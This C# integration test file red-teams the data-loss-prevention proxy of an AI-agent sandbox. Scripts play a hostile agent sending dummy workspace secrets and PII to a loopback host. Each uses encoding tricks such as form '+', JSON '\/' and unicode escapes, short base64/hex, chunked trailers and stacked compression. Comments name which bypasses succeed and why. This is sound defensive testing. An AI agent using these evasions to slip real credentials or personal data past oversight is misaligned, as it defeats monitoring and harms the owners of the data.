using System.Text;
using Vibedom.IntegrationTests.Network;
using Vibedom.Testing;
using Vibedom.Testing.Network;
using Xunit;

namespace Vibedom.IntegrationTests.RedTeam;

/// <summary>
/// Red team (redteam5): the hostile agent inside `vibedom run` tries to get a workspace secret (a value the pre-flight
/// found) or PII out to an ALLOWED host unscrubbed, using only encodings and framings docs/SECURITY.md says DLP covers
/// (form-encoded and JSON bodies with their escapes, percent, hex, base64). Real binary, real sandbox, real clients
/// (curl, Python's urllib), the loopback upstream records what it receives. The tests that FAIL on the code as merged
/// are findings (see the report); the ones that pass are attacks that failed, kept as regressions.
/// </summary>
public sealed class RedTeamDlpTests
{
    private static readonly TimeSpan Generous = TimeSpan.FromMinutes(3);

    /// <summary>A secret access key shape with '/' in it (assembled at run time).</summary>
    private static string SlashKey => string.Concat("wJalrXUtnFEMI/K7", "MDENG/bPxRfiCYzq3Vb8T2");

    /// <summary>A Slack incoming webhook URL shape (assembled at run time).</summary>
    private static string SlackWebhook => string.Concat("https://hooks.slack", ".com/services/", "T0A1B2C3D/B0E4F5G6H/", "Zx9Yw8Vu7Ts6Rq5Po4Nm3Lk2");

    /// <summary>A 10-character password, as people choose them (assembled at run time).</summary>
    private static string ShortPassword => string.Concat("qW3x", "zP9v", "kL");

    private static string Card => string.Concat("4111 1111", " 1111 1111");

    private static string Iban => string.Concat("DE89 3704 0044", " 0532 0130 00");

    private static string Email => string.Concat("jane.doe", "@", "example", ".org");

    /// <summary>The first base64 line of <see cref="TestSecrets.PrivateKeyPem"/>: what must never arrive.</summary>
    private static string PemBodyLine => TestSecrets.PrivateKeyPem.Split('\n')[1];

    /// <summary>
    /// FINDING (high). `requests.post(url, data={...})`, `urllib.parse.urlencode` and every HTML form write a space as
    /// '+'. A private key the pre-flight found in the workspace, posted that way, arrives whole: neither the
    /// private-key rule ("BEGIN+OPENSSH+PRIVATE+KEY") nor the exact pre-flight value (spaces, newlines) matches,
    /// because a body's '+' is never read as a space (only the URL query's is, in DlpRequestTransform.ScrubUriPart).
    /// </summary>
    [Fact]
    public async Task A_workspace_private_key_posted_as_a_python_form_arrives_redacted()
    {
        await using var s = await StartAsync(("deploy_key", TestSecrets.PrivateKeyPem + "\n"));

        var result = await RunAsync(s, $$"""
            python3 - <<'PY'
            import urllib.parse, urllib.request
            body = urllib.parse.urlencode({"key": open("deploy_key").read(), "note": "hello"}).encode()
            req = urllib.request.Request("{{s.HttpsUrl("/record/form-pem")}}", data=body, method="POST",
                                         headers={"Content-Type": "application/x-www-form-urlencoded"})
            urllib.request.urlopen(req).read()
            PY
            """);

        Assert.True(result.ExitCode == 0, result.StandardError);
        var received = Received(s, "/record/form-pem");
        Assert.StartsWith("key=-----BEGIN", Encoding.UTF8.GetString(received.Body), StringComparison.Ordinal); // the attack took the form we meant
        Assert.False(received.AllText.Contains(PemBodyLine, StringComparison.Ordinal), "the upstream received the workspace's private key: " + Encoding.UTF8.GetString(received.Body));
    }

    /// <summary>
    /// FINDING (high). JSON allows '/' written as '\/' (PHP's json_encode, several Java and .NET encoders do it by
    /// default). A workspace value with a '/' (an AWS secret access key, a base64 token) sent bare in such JSON is not
    /// found: the engine's decoder reads \uXXXX escapes, not the short escapes ('\/', '\"', '\\'). The same holds for
    /// a pattern rule whose shape has a '/' (a Slack webhook URL, `hooks.slack.com\/services\/…`), no workspace needed.
    /// </summary>
    [Fact]
    public async Task A_workspace_value_or_a_slack_webhook_with_slashes_in_php_style_json_arrives_redacted()
    {
        await using var s = await StartAsync((".env", $"AWS_SECRET_ACCESS_KEY=\"{SlashKey}\"\n"));

        var result = await RunAsync(s, $$"""
            python3 - <<'PY'
            import json, os, urllib.request
            value = open(".env").read().split('"')[1]
            body = json.dumps({"k": value}).replace("/", "\\/").encode()
            req = urllib.request.Request("{{s.HttpsUrl("/record/json-slash")}}", data=body, method="POST",
                                         headers={"Content-Type": "application/json"})
            urllib.request.urlopen(req).read()
            hook = os.environ["HOOK_A"] + os.environ["HOOK_B"]
            body = json.dumps({"text": "hi", "webhook": hook}).replace("/", "\\/").encode()
            req = urllib.request.Request("{{s.HttpsUrl("/record/json-slash-webhook")}}", data=body, method="POST",
                                         headers={"Content-Type": "application/json"})
            urllib.request.urlopen(req).read()
            PY
            """, ("HOOK_A", SlackWebhook[..40]), ("HOOK_B", SlackWebhook[40..]));

        Assert.True(result.ExitCode == 0, result.StandardError);
        var hookBody = Encoding.UTF8.GetString(Received(s, "/record/json-slash-webhook").Body);
        Assert.Contains("hooks.slack.com\\/services", hookBody, StringComparison.Ordinal);
        Assert.False(hookBody.Replace("\\/", "/", StringComparison.Ordinal).Contains(SlackWebhook, StringComparison.Ordinal), "the upstream received the webhook URL: " + hookBody);
        var received = Received(s, "/record/json-slash");
        var body = Encoding.UTF8.GetString(received.Body);
        Assert.Contains("\\/", body, StringComparison.Ordinal);
        Assert.False(body.Replace("\\/", "/", StringComparison.Ordinal).Contains(SlashKey, StringComparison.Ordinal), "the upstream received the workspace value: " + body);
    }

    /// <summary>
    /// FINDING (medium). PII in a form-encoded body, written as Python and HTML forms write it (spaces as '+'): a card
    /// number and an IBAN grouped by spaces arrive whole. The number detectors accept only ' ' or '-' between groups
    /// (DigitRun), and no decoding of a form body happens before the PII detectors.
    /// </summary>
    [Fact]
    public async Task A_card_and_an_iban_in_a_python_form_body_arrive_redacted()
    {
        await using var s = await StartAsync();

        var result = await RunAsync(s, $$"""
            export CARD="{{Card[..9]}}""{{Card[9..]}}" IBAN="{{Iban[..14]}}""{{Iban[14..]}}"
            python3 - <<'PY'
            import os, urllib.parse, urllib.request
            body = urllib.parse.urlencode({"card": os.environ["CARD"], "iban": os.environ["IBAN"]}).encode()
            req = urllib.request.Request("{{s.HttpsUrl("/record/form-pii")}}", data=body, method="POST",
                                         headers={"Content-Type": "application/x-www-form-urlencoded"})
            urllib.request.urlopen(req).read()
            PY
            """);

        Assert.True(result.ExitCode == 0, result.StandardError);
        var body = Encoding.UTF8.GetString(Received(s, "/record/form-pii").Body);
        Assert.False(body.Contains(Card.Replace(' ', '+'), StringComparison.Ordinal), "the upstream received the card number: " + body);
        Assert.False(body.Contains(Iban.Replace(' ', '+'), StringComparison.Ordinal), "the upstream received the IBAN: " + body);
    }

    /// <summary>
    /// FINDING (medium). An e-mail address in a form body as `curl --data-urlencode` writes it (`%40`), in a header
    /// percent-encoded, and in JSON with its '@' escaped (`\u0040`) arrives whole: the PII detectors run on the raw
    /// text only (DlpEngine.Find hands them the text, never the decoder's passes), so PII is found percent-decoded in
    /// the URL only.
    /// </summary>
    [Fact]
    public async Task An_email_percent_encoded_in_a_form_body_or_a_header_or_unicode_escaped_in_json_arrives_redacted()
    {
        await using var s = await StartAsync();
        var (user, domain) = (Email[..8], Email[9..]);

        var result = await RunAsync(s, $$"""
            set -e
            curl -sS -o /dev/null --data-urlencode "mail={{user}}@{{domain}}" '{{s.HttpsUrl("/record/mail-form")}}'
            curl -sS -o /dev/null -H "X-Mail: {{user}}%40{{domain}}" '{{s.HttpsUrl("/record/mail-header")}}'
            curl -sS -o /dev/null -H 'Content-Type: application/json' --data-binary '{"mail":"{{user}}\u0040{{domain}}"}' '{{s.HttpsUrl("/record/mail-json")}}'
            """);

        Assert.True(result.ExitCode == 0, result.StandardError);
        foreach (var (path, form) in new[] { ("/record/mail-form", user + "%40" + domain), ("/record/mail-header", user + "%40" + domain), ("/record/mail-json", user + "\\u0040" + domain) })
        {
            var received = Received(s, path);
            Assert.False(received.AllText.Contains(form, StringComparison.Ordinal), $"{path}: the upstream received the address as {form}");
        }
    }

    /// <summary>
    /// FINDING (medium). A short workspace password (10 characters, found by the pre-flight in `.env`) sent in base64
    /// or in hex arrives unscrubbed, while the same value bare or percent-encoded is scrubbed. The decoder only decodes
    /// base64 runs of 16+ characters and hex runs of 32+ (gitleaks' thresholds): a value under 12 bytes never yields a
    /// base64 run long enough, under 16 bytes never a hex run, so KnownSecrets' "hex- and base64-encoded forms are
    /// found too" holds only for long values.
    /// </summary>
    [Fact]
    public async Task A_short_workspace_password_sent_in_base64_or_hex_arrives_redacted()
    {
        await using var s = await StartAsync((".env", $"DB_PASSWORD=\"{ShortPassword}\"\n"));

        var result = await RunAsync(s, $"""
            set -e
            P=$(cut -d'"' -f2 .env)
            curl -sS -o /dev/null --data-binary "note $P end" '{s.HttpsUrl("/record/short-plain")}'
            curl -sS -o /dev/null --data-binary "note $(printf '%s' "$P" | base64) end" '{s.HttpsUrl("/record/short-base64")}'
            curl -sS -o /dev/null --data-binary "note $(printf '%s' "$P" | xxd -p) end" '{s.HttpsUrl("/record/short-hex")}'
            """);

        Assert.True(result.ExitCode == 0, result.StandardError);
        Assert.Equal("note [REDACTED_PREFLIGHT] end", Encoding.UTF8.GetString(Received(s, "/record/short-plain").Body)); // the pre-flight found it
        var base64 = Convert.ToBase64String(Encoding.UTF8.GetBytes(ShortPassword));
        var hex = Convert.ToHexStringLower(Encoding.UTF8.GetBytes(ShortPassword));
        Assert.False(Encoding.UTF8.GetString(Received(s, "/record/short-base64").Body).Contains(base64, StringComparison.Ordinal), "the upstream received the password in base64");
        Assert.False(Encoding.UTF8.GetString(Received(s, "/record/short-hex").Body).Contains(hex, StringComparison.Ordinal), "the upstream received the password in hex");
    }

    /// <summary>
    /// FINDING (low). An AWS key glued to a letter (`xAKIA…`) is scrubbed in plain text (the "glued shapes"), but the
    /// same bytes in base64 are not: the glued (unbounded) rules run with MaxDecodeDepth 0 (DlpEngine's constructor),
    /// and the bounded rule's word boundary fails on the decoded `xAKIA…`.
    /// </summary>
    [Fact]
    public async Task An_aws_key_glued_to_a_letter_is_redacted_in_base64_as_in_plain_text()
    {
        await using var s = await StartAsync();
        var aws = TestSecrets.AwsAccessKeyId;

        var result = await RunAsync(s, $"""
            set -e
            K="{aws[..8]}""{aws[8..]}"
            curl -sS -o /dev/null --data-binary "k=x$K" '{s.HttpsUrl("/record/glued-plain")}'
            curl -sS -o /dev/null --data-binary "k=$(printf 'x%s' "$K" | base64)" '{s.HttpsUrl("/record/glued-base64")}'
            """);

        Assert.True(result.ExitCode == 0, result.StandardError);
        Assert.DoesNotContain(aws, Encoding.UTF8.GetString(Received(s, "/record/glued-plain").Body), StringComparison.Ordinal); // plain: caught
        var sent = Convert.ToBase64String(Encoding.UTF8.GetBytes("x" + aws));
        Assert.False(Encoding.UTF8.GetString(Received(s, "/record/glued-base64").Body).Contains(sent, StringComparison.Ordinal), "the upstream received the key in base64");
    }

    /// <summary>
    /// An HTTP/1.1 chunked request's trailer field (after the body) holding a workspace value: DLP reads headers and the
    /// body, never request trailers; the proxy speaks HTTP/2 upstream, where YARP can forward trailers.
    /// </summary>
    [Fact]
    public async Task A_workspace_value_in_an_http1_chunked_trailer_never_reaches_the_upstream()
    {
        await using var s = await StartAsync(("settings.ini", $"db_password = \"{TestSecrets.DbPassword}\"\n"));

        var result = await RunAsync(s, $$"""
            python3 - <<'PY'
            import os, socket, ssl, urllib.parse
            host, port = "{{UpstreamServer.Name}}", {{s.Upstream.HttpsPort}}
            value = open("settings.ini").read().split('"')[1]
            proxy = urllib.parse.urlparse(os.environ["HTTPS_PROXY"])
            raw = socket.create_connection((proxy.hostname, proxy.port), timeout=30)
            raw.sendall(f"CONNECT {host}:{port} HTTP/1.1\r\nHost: {host}:{port}\r\n\r\n".encode())
            head = b""
            while not head.endswith(b"\r\n\r\n"):
                head += raw.recv(1)
            tls = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"]).wrap_socket(raw, server_hostname=host)
            tls.sendall((f"POST /record/trailer HTTP/1.1\r\nHost: {host}:{port}\r\nTransfer-Encoding: chunked\r\nTrailer: X-Note\r\n"
                         f"Content-Type: text/plain\r\nConnection: close\r\n\r\n5\r\nhello\r\n0\r\nX-Note: note {value} end\r\n\r\n").encode())
            answer = b""
            while True:
                chunk = tls.recv(4096)
                if not chunk:
                    break
                answer += chunk
            print(answer.split(b"\r\n")[0].decode())
            PY
            """);

        Assert.True(result.ExitCode == 0, result.StandardError);
        Assert.Equal("hello", Encoding.UTF8.GetString(Received(s, "/record/trailer").Body)); // the request itself went through
        foreach (var request in s.Upstream.Received)
        {
            Assert.False(request.AllText.Contains(TestSecrets.DbPassword, StringComparison.Ordinal), $"{request.Target} received the workspace value: {request.AllText}");
        }
    }

    /// <summary>
    /// Attacks that FAILED (kept as regressions): stacked and reordered Content-Encodings (`gzip, gzip` on one line and
    /// on two, two gzip members with the value across them, `deflate, br` in upper case, `identity, gzip`), a chunked
    /// gzip body, a Content-Type that lies (`image/png`), an HTTP/2 body, a body over the 4 MiB buffer with the value
    /// all \u-escaped near its end, a JSON \u escape cut in the middle across two chunks sent 200 ms apart, a double
    /// percent-encoded value in a form body and the query, a base64 multipart part: each arrives redacted; a raw-deflate
    /// body labelled `deflate` is refused (500), never forwarded.
    /// </summary>
    [Fact]
    public async Task Stacked_encodings_lying_types_h2_large_and_split_escaped_bodies_all_arrive_redacted()
    {
        await using var s = await StartAsync(("settings.ini", $"db_password = \"{TestSecrets.DbPassword}\"\n"));
        var u = s.HttpsUrl("/record");

        var result = await RunAsync(s, $$"""
            set -e
            export P=$(cut -d'"' -f2 settings.ini)
            printf '{"prompt":"note %s end"}' "$P" > clear.json
            python3 -c 'import gzip,sys; d=open("clear.json","rb").read(); sys.stdout.buffer.write(gzip.compress(gzip.compress(d)))' > gz2.bin
            python3 -c 'import gzip,sys; d=open("clear.json","rb").read(); c=len(d)//2; sys.stdout.buffer.write(gzip.compress(d[:c])+gzip.compress(d[c:]))' > gzm.bin
            python3 -c 'import zlib,sys; sys.stdout.buffer.write(zlib.compress(open("clear.json","rb").read()))' > z.bin
            python3 -c 'import zlib,sys; c=zlib.compressobj(wbits=-15); d=open("clear.json","rb").read(); sys.stdout.buffer.write(c.compress(d)+c.flush())' > raw.bin
            node -e 'const z=require("zlib"),fs=require("fs");fs.writeFileSync("brz.bin",z.brotliCompressSync(fs.readFileSync("z.bin")))'
            gzip -c clear.json > g.bin
            c() { curl -sS -o /dev/null -w "$1 %{http_code}\n" "${@:2}"; }
            c gz2 -H 'Content-Encoding: gzip, gzip' --data-binary @gz2.bin "{{u}}/gz2"
            c gz2-lines -H 'Content-Encoding: gzip' -H 'Content-Encoding: gzip' --data-binary @gz2.bin "{{u}}/gz2-lines"
            c gzmembers -H 'Content-Encoding: gzip' --data-binary @gzm.bin "{{u}}/gzmembers"
            c br-deflate -H 'Content-Encoding: DEFLATE , BR' --data-binary @brz.bin "{{u}}/br-deflate"
            c identity-gzip -H 'Content-Encoding: identity, gzip' --data-binary @g.bin "{{u}}/identity-gzip"
            c chunked-gzip -H 'Transfer-Encoding: chunked' -H 'Content-Encoding: gzip' --data-binary @g.bin "{{u}}/chunked-gzip"
            c png -H 'Content-Type: image/png' --data-binary @clear.json "{{u}}/png"
            c h2 --http2 -H 'Content-Type: application/json' --data-binary @clear.json "{{u}}/h2"
            c form-dbl --data-binary "a=$(python3 -c 'import os;print("".join("%%25%02X" % b for b in os.environ["P"].encode()))')" "{{u}}/form-dbl"
            c query-dbl "{{u}}/query-dbl?k=$(python3 -c 'import os;print("".join("%%25%02X" % b for b in os.environ["P"].encode()))')"
            printf -- '--BB\r\nContent-Disposition: form-data; name="f"; filename="a.txt"\r\nContent-Transfer-Encoding: base64\r\n\r\n%s\r\n--BB--\r\n' "$(printf '%s' "$P" | base64)" > mp.bin
            c multipart-b64 -H 'Content-Type: multipart/form-data; boundary=BB' --data-binary @mp.bin "{{u}}/multipart-b64"
            c raw-deflate -H 'Content-Encoding: deflate' --data-binary @raw.bin "{{u}}/raw-deflate" || true
            python3 - <<'PY'
            import os, time, urllib.request
            p = os.environ["P"]
            esc = "".join("\\u%04x" % ord(ch) for ch in p)
            big = b"a" * (5 * 1024 * 1024) + b' {"k":"' + esc.encode() + b'"}\n'
            urllib.request.urlopen(urllib.request.Request("{{u}}/big-escaped", data=big, method="POST", headers={"Content-Type": "application/json"})).read()
            text = '{"prompt":"note ' + esc + ' end"}'
            cut = text.index("note ") + 5 + 27  # inside the fifth \u escape
            def body():
                yield text[:cut].encode(); time.sleep(0.2); yield text[cut:].encode()
            urllib.request.urlopen(urllib.request.Request("{{u}}/split-escape", data=body(), method="POST", headers={"Content-Type": "application/json"})).read()
            PY
            """);

        Assert.True(result.ExitCode == 0, result.StandardError);
        Assert.Contains("raw-deflate 500", result.StandardOutput, StringComparison.Ordinal);
        Assert.DoesNotContain(s.Upstream.Received, r => r.Target.StartsWith("/record/raw-deflate", StringComparison.Ordinal));
        string[] paths = ["gz2", "gz2-lines", "gzmembers", "br-deflate", "identity-gzip", "chunked-gzip", "png", "h2", "form-dbl", "query-dbl", "multipart-b64", "big-escaped", "split-escape"];
        foreach (var path in paths)
        {
            var received = Received(s, "/record/" + path);
            var text = Uri.UnescapeDataString(received.AllText);
            Assert.False(text.Contains(TestSecrets.DbPassword, StringComparison.Ordinal), $"{path} received the workspace value");
            Assert.Contains("REDACTED", text, StringComparison.Ordinal);
        }
    }

    private static async Task<ProxiedSession> StartAsync(params (string Path, string Content)[] files)
    {
        var s = await ProxiedSession.StartAsync();
        foreach (var (path, content) in files)
        {
            File.WriteAllText(Path.Combine(s.Workspace, path), content);
        }

        return s;
    }

    /// <summary>Runs the script in a sandbox; <paramref name="variables"/> are passed with `[run] env` (halves of a value: no whole value in a file).</summary>
    private static Task<Vibedom.Core.Processes.ProcessResult> RunAsync(ProxiedSession s, string script, params (string Name, string Value)[] variables)
    {
        File.WriteAllText(Path.Combine(s.Workspace, "attack.sh"), script.ReplaceLineEndings("\n") + "\n");
        var environment = s.Vibedom.Environment();
        if (variables.Length > 0)
        {
            File.AppendAllText(Path.Combine(s.Vibedom.Home, "config.toml"), $"\n[run]\nenv = [{string.Join(", ", variables.Select(v => $"\"{v.Name}\""))}]\n");
            foreach (var (name, value) in variables)
            {
                environment[name] = value;
            }
        }

        return s.Vibedom.RunAsync(["run", s.Workspace, "--yes", "--allow-high-risk", "--", "bash", "attack.sh"], input: null, environment: environment, timeout: Generous);
    }

    private static ReceivedRequest Received(ProxiedSession s, string path) =>
        Assert.Single(s.Upstream.Received, r => r.Target == path || r.Target.StartsWith(path + "?", StringComparison.Ordinal));
}
